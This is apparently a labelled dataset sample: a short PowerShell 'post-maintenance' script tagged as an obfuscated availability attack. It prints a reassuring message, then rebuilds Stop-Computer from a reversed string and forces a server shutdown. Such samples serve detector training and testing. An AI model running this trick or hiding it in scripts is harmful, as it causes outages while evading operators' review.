# description: Post-maintenance script that shuts the server down using a command name built from a reversed char array.
# family: availability
# obfuscated: yes
Write-Output 'Maintenance complete, finalising'
$r = 'retupmoC-potS'
$cmd = -join ([char[]]$r)[-1..-($r.Length)]
& $cmd -Force
